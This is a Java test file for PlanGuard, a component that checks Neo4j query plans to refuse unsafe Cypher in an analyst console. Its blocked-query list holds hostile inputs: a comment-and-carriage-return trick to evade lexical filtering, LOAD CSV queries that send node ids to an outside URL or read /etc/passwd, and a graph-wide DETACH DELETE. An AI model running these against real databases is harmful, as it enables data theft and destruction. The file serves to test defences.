package org.tongxin.api.cypher;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.neo4j.driver.Session;
import org.neo4j.driver.exceptions.Neo4jException;
import org.neo4j.driver.summary.ResultSummary;
import org.tongxin.api.TestCity;
import org.tongxin.domain.cypher.PlanGuard;
import org.tongxin.domain.problem.Problem;

/** The plan layer on its own, without the lexical guard in front: Neo4j's plan decides. */
class PlanGuardTest {

    private static TestCity city;

    @BeforeAll
    static void city() throws Exception {
        city = TestCity.get();
    }

    private static Optional<String> judge(String query) {
        try (Session s = city.store.driver().session()) {
            ResultSummary r = s.run("EXPLAIN " + query, Map.of()).consume();
            return PlanGuard.refusal(r.plan()).map(Problem::getMessage);
        } catch (Neo4jException e) {
            return Optional.of("EXPLAIN failed, which the console refuses too: " + e.code());
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "//\rMATCH (p:Person) WITH p LIMIT 3 LOAD CSV FROM 'http://127.0.0.1:1/x?id=' + p.id AS l RETURN count(l)",
            "//\rSHOW TRANSACTIONS YIELD currentQuery, parameters",
            "//\rSHOW SETTINGS", "//\rSHOW PROCEDURES", "//\rSHOW FUNCTIONS", "//\rSHOW INDEXES",
            "//\rSHOW CONSTRAINTS", "//\rTERMINATE TRANSACTIONS 'neo4j-transaction-1'",
            "//\rCALL db.stats.retrieve('GRAPH COUNTS')", "//\rCALL db.awaitIndexes(5)",
            "//\rCALL db.resampleOutdatedIndexes()", "//\rCALL db.prepareForReplanning()",
            "CALL { LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l } RETURN l",
            "RETURN 1 AS l UNION LOAD CSV FROM 'http://127.0.0.1:1/x' AS l RETURN l",
            "CREATE (n:X)", "MATCH (n:Person) SET n.x = 1", "MATCH (n) DETACH DELETE n"})
    void whatTheTextHidesThePlanShows(String query) {
        assertThat(judge(query)).as(query).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "MATCH (p:Person)<-[u:USER]-(s:NetbarSession)-[:AT]->(v:Venue) RETURN p.name, s, u, v LIMIT 5",
            "MATCH (p:Person) OPTIONAL MATCH (p)-[r]-(x) RETURN p.name, count(x) ORDER BY count(x) DESC LIMIT 3",
            "MATCH path = (a:Person)-[*1..3]-(b:Venue) RETURN path LIMIT 2",
            "MATCH (a:Person), (b:Person) WHERE a <> b WITH a, b LIMIT 1 MATCH p = shortestPath((a)-[*..6]-(b)) RETURN p",
            "MATCH (p:Person) WHERE EXISTS { (p)--(:Venue) } RETURN count(p)",
            "MATCH (p:Person) RETURN p.name AS x UNION MATCH (v:Venue) RETURN v.name AS x",
            "UNWIND range(1, 10) AS i WITH i WHERE i % 2 = 0 RETURN DISTINCT i SKIP 1",
            "MATCH (p:Person) RETURN [(p)--(x) | x.name][0..3] AS names LIMIT 5",
            "MATCH (p:Person) CALL (p) { MATCH (p)--(x) RETURN count(x) AS c } RETURN p.name, c LIMIT 5",
            "CALL db.labels() YIELD label RETURN label ORDER BY label",
            "CALL db.schema.visualization()", "CALL db.relationshipTypes()", "CALL db.propertyKeys()",
            "MATCH (n) RETURN count(n)", "MATCH ()-[r]->() RETURN count(r)"})
    void ordinaryAnalystReadsPass(String query) {
        assertThat(judge(query)).as(query).isEmpty();
    }
}
